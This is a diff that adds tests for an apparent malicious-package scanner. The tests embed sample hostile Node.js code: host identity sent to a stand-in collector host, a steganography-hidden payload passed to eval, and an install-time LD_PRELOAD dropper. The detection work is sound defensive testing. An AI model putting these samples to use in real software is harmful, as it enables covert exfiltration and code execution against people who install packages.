@@ -323,3 +323,41 @@ module.exports = {};
     expect(JSON.stringify(r.findings.find((f) => f.detector === 'exfiltration')?.data)).toMatch(/remote client/);
   });
 });
+
+describe('members reached through descriptors, steganography libraries, forced libraries', () => {
+  it('os.hostname reached through Object.getOwnPropertyDescriptor(os, …).value and sent is host identity sent', () => {
+    const r = scan({
+      'index.js': `const os = require('os');
+const http = require('http');
+const host = Object.getOwnPropertyDescriptor(os, 'hostname').value();
+http.get('http://collect.example.net/h?host=' + encodeURIComponent(host));
+`,
+    });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+
+  it('a payload revealed from a shipped image by a steganography library and evaluated is decode-then-run', () => {
+    const r = scan({
+      'index.js': `const fs = require('fs');
+const steggy = require('steggy');
+const hidden = steggy.reveal()(fs.readFileSync(__dirname + '/logo.png'));
+eval(hidden.toString());
+`,
+    });
+    expect(r.ids).toContain('remote-code/decode');
+  });
+
+  it('a planted library forced into a system binary with LD_PRELOAD at install is at least medium', () => {
+    const r = scan({
+      'index.js': `const fs = require('fs');
+const { spawn } = require('child_process');
+const lib = '/tmp/.libcache.so';
+fs.writeFileSync(lib, Buffer.from(require('./blob.json').so, 'base64'));
+spawn('/usr/bin/id', [], { env: { ...process.env, LD_PRELOAD: lib }, detached: true, stdio: 'ignore' }).unref();
+`,
+      'blob.json': '{"so":"f0VMRgIBAQ=="}',
+    }, postinstall);
+    expect(r.findings.find((f) => f.messageId === 'dropper')?.data?.what).toMatch(/LD_PRELOAD/);
+    expect(atLeastMedium).toContain(r.level);
+  });
+});
